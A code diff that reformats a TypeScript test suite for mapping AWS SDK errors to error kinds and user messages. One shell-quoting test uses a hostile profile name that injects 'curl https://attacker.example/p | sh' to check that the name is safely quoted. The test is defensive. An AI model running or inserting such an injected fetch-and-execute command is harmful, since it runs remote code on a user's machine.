@@ -31,15 +31,18 @@ describe('src/aws error mapping end to end', function () {
     fs.writeFileSync(config, '');
     fs.writeFileSync(credentials, '');
     emu().clearRequests();
-    const e = await withAwsEnv({ AWS_CONFIG_FILE: config, AWS_SHARED_CREDENTIALS_FILE: credentials, AWS_EC2_METADATA_DISABLED: 'true' }, async () => {
-      assert.equal(process.env.AWS_ACCESS_KEY_ID, undefined);
-      const conn = await connect(emu());
-      try {
-        return await expectAwsError(listImagesPage(conn, {}), 'noCredentials');
-      } finally {
-        conn.client.destroy();
-      }
-    });
+    const e = await withAwsEnv(
+      { AWS_CONFIG_FILE: config, AWS_SHARED_CREDENTIALS_FILE: credentials, AWS_EC2_METADATA_DISABLED: 'true' },
+      async () => {
+        assert.equal(process.env.AWS_ACCESS_KEY_ID, undefined);
+        const conn = await connect(emu());
+        try {
+          return await expectAwsError(listImagesPage(conn, {}), 'noCredentials');
+        } finally {
+          conn.client.destroy();
+        }
+      },
+    );
     assert.equal(e.retryable, false);
     assert.match(e.message, /No AWS credentials were found/);
     assert.deepEqual(emu().calls(), [], 'no unsigned request went out');
@@ -49,7 +52,10 @@ describe('src/aws error mapping end to end', function () {
 
   it('connection refused (an endpoint on a closed port): kind network, retryable', async function () {
     const port = await closedPort();
-    const conn = await createConnection({ region: 'us-east-1', endpoint: `http://127.0.0.1:${port}` }, { maxAttempts: 1, connectionTimeoutMs: 2_000, requestTimeoutMs: 5_000 });
+    const conn = await createConnection(
+      { region: 'us-east-1', endpoint: `http://127.0.0.1:${port}` },
+      { maxAttempts: 1, connectionTimeoutMs: 2_000, requestTimeoutMs: 5_000 },
+    );
     try {
       const e = await expectAwsError(listImagesPage(conn, {}), 'network');
       assert.equal(e.retryable, true);
@@ -67,18 +73,38 @@ describe('toAwsError', function () {
     Object.assign(new Error(message), { name, $fault: 'client', $metadata: { httpStatusCode, requestId: 'req-1' } });
 
   const CASES: { title: string; error: unknown; kind: AwsError['kind']; retryable: boolean; message?: RegExp }[] = [
-    { title: 'ResourceNotFound', error: service('ResourceNotFound', 400), kind: 'notFound', retryable: false, message: /image “my-image” was not found in eu-west-1/i },
+    {
+      title: 'ResourceNotFound',
+      error: service('ResourceNotFound', 400),
+      kind: 'notFound',
+      retryable: false,
+      message: /image “my-image” was not found in eu-west-1/i,
+    },
     { title: 'ResourceNotFound with a 404', error: service('ResourceNotFound', 404), kind: 'notFound', retryable: false },
-    { title: 'ValidationException', error: service('ValidationException', 400, "1 validation error detected: Value '0' at 'maxResults'"), kind: 'validation', retryable: false, message: /maxResults/ },
+    {
+      title: 'ValidationException',
+      error: service('ValidationException', 400, "1 validation error detected: Value '0' at 'maxResults'"),
+      kind: 'validation',
+      retryable: false,
+      message: /maxResults/,
+    },
     { title: 'ThrottlingException', error: service('ThrottlingException', 400, 'Rate exceeded'), kind: 'throttled', retryable: true },
     { title: 'an unnamed 429', error: service('TooManyRequests', 429), kind: 'throttled', retryable: true },
-    { title: 'AccessDeniedException', error: service('AccessDeniedException', 400), kind: 'accessDenied', retryable: false, message: /ListImageVersions/ },
+    {
+      title: 'AccessDeniedException',
+      error: service('AccessDeniedException', 400),
+      kind: 'accessDenied',
+      retryable: false,
+      message: /ListImageVersions/,
+    },
     { title: 'an unnamed 403', error: service('Forbidden', 403), kind: 'accessDenied', retryable: false },
     { title: 'UnrecognizedClientException', error: service('UnrecognizedClientException', 400), kind: 'accessDenied', retryable: false },
     { title: 'ExpiredTokenException', error: service('ExpiredTokenException', 400), kind: 'expiredCredentials', retryable: false },
     {
       title: 'a CredentialsProviderError saying the SSO token expired',
-      error: Object.assign(new Error('The SSO session associated with this profile has expired or is otherwise invalid.'), { name: 'CredentialsProviderError' }),
+      error: Object.assign(new Error('The SSO session associated with this profile has expired or is otherwise invalid.'), {
+        name: 'CredentialsProviderError',
+      }),
       kind: 'expiredCredentials',
       retryable: false,
     },
@@ -90,7 +116,10 @@ describe('toAwsError', function () {
     },
     {
       title: 'a TimeoutError with ETIMEDOUT (request deadline)',
-      error: Object.assign(new Error('a request has exceeded the configured 300 ms requestTimeout.'), { name: 'TimeoutError', code: 'ETIMEDOUT' }),
+      error: Object.assign(new Error('a request has exceeded the configured 300 ms requestTimeout.'), {
+        name: 'TimeoutError',
+        code: 'ETIMEDOUT',
+      }),
       kind: 'timeout',
       retryable: true,
     },
@@ -100,17 +129,42 @@ describe('toAwsError', function () {
       kind: 'network',
       retryable: true,
     },
-    { title: 'ECONNREFUSED', error: Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:9'), { code: 'ECONNREFUSED' }), kind: 'network', retryable: true },
-    { title: 'ENOTFOUND', error: Object.assign(new Error('getaddrinfo ENOTFOUND nowhere.invalid'), { code: 'ENOTFOUND' }), kind: 'network', retryable: true },
-    { title: 'an InternalFailure 500', error: service('InternalFailure', 500), kind: 'unknown', retryable: true, message: /internal error \(HTTP 500\)/ },
+    {
+      title: 'ECONNREFUSED',
+      error: Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:9'), { code: 'ECONNREFUSED' }),
+      kind: 'network',
+      retryable: true,
+    },
+    {
+      title: 'ENOTFOUND',
+      error: Object.assign(new Error('getaddrinfo ENOTFOUND nowhere.invalid'), { code: 'ENOTFOUND' }),
+      kind: 'network',
+      retryable: true,
+    },
+    {
+      title: 'an InternalFailure 500',
+      error: service('InternalFailure', 500),
+      kind: 'unknown',
+      retryable: true,
+      message: /internal error \(HTTP 500\)/,
+    },
     {
       title: 'an HTML 502 the SDK could not parse',
-      error: Object.assign(new SyntaxError(`Unexpected token '<', "<html>" is not valid JSON\n  Deserialization error: to see the raw response…`), { $metadata: { httpStatusCode: 502 } }),
+      error: Object.assign(
+        new SyntaxError(`Unexpected token '<', "<html>" is not valid JSON\n  Deserialization error: to see the raw response…`),
+        { $metadata: { httpStatusCode: 502 } },
+      ),
       kind: 'unknown',
       retryable: true,
       message: /could not be read \(HTTP 502\)\. A proxy/,
     },
-    { title: 'a thrown string', error: 'boom', kind: 'unknown', retryable: false, message: /ListImageVersions failed for image “my-image” in eu-west-1: boom/ },
+    {
+      title: 'a thrown string',
+      error: 'boom',
+      kind: 'unknown',
+      retryable: false,
+      message: /ListImageVersions failed for image “my-image” in eu-west-1: boom/,
+    },
   ];
   for (const c of CASES) {
     it(`maps ${c.title} to ${c.kind}`, function () {
@@ -123,17 +177,30 @@ describe('toAwsError', function () {
   }
 
   it('keeps code, status, request id and raw text in details, and passes AwsErrors through unchanged', function () {
-    const e = toAwsError(service('ResourceNotFound', 400, 'Image with ImageName my-image does not exist.'), { operation: 'DescribeImageVersion', imageName: 'my-image', version: 3 });
-    assert.deepEqual(e.details, { code: 'ResourceNotFound', httpStatus: 400, requestId: 'req-1', rawMessage: 'Image with ImageName my-image does not exist.' });
+    const e = toAwsError(service('ResourceNotFound', 400, 'Image with ImageName my-image does not exist.'), {
+      operation: 'DescribeImageVersion',
+      imageName: 'my-image',
+      version: 3,
+    });
+    assert.deepEqual(e.details, {
+      code: 'ResourceNotFound',
+      httpStatus: 400,
+      requestId: 'req-1',
+      rawMessage: 'Image with ImageName my-image does not exist.',
+    });
     assert.match(e.message, /^Version 3 of image “my-image” was not found\./);
     assert.equal(toAwsError(e, ctx), e);
   });
 
   const provider = (name: string, message: string) => Object.assign(new Error(message), { name });
 
-  it('reads the missing profile from each of the SDK\'s messages', function () {
+  it("reads the missing profile from each of the SDK's messages", function () {
     const messages: [string, string, string][] = [
-      ['CredentialsProviderError', 'Could not resolve credentials using profile: [team ml] in configuration/credentials file(s).', 'team ml'],
+      [
+        'CredentialsProviderError',
+        'Could not resolve credentials using profile: [team ml] in configuration/credentials file(s).',
+        'team ml',
+      ],
       ['CredentialsProviderError', 'Profile ghost could not be found in shared credentials file.', 'ghost'],
       ['CredentialsProviderError', 'Profile prod.admin was not found.', 'prod.admin'],
       ['TokenProviderError', "Profile 'sso-dev' could not be found in shared credentials file.", 'sso-dev'],
@@ -169,10 +236,17 @@ describe('toAwsError', function () {
   });
 
   describe('the SSO message quotes the login command (src/aws/shellQuote.ts)', function () {
-    const sso = () => provider('CredentialsProviderError', 'The SSO session associated with this profile has expired. To refresh this SSO session run aws sso login with the corresponding profile.');
+    const sso = () =>
+      provider(
+        'CredentialsProviderError',
+        'The SSO session associated with this profile has expired. To refresh this SSO session run aws sso login with the corresponding profile.',
+      );
 
     it('a name with spaces or shell metacharacters is single-quoted', function () {
-      assert.match(toAwsError(sso(), { operation: 'ListImages', profile: 'my team' }).message, /Run aws sso login --profile 'my team', then retry\./);
+      assert.match(
+        toAwsError(sso(), { operation: 'ListImages', profile: 'my team' }).message,
+        /Run aws sso login --profile 'my team', then retry\./,
+      );
       const hostile = 'dev; curl https://attacker.example/p | sh #';
       const e = toAwsError(sso(), { operation: 'ListImages', profile: hostile });
       assert.ok(e.message.includes(`Run aws sso login --profile '${hostile}', then retry.`), e.message);
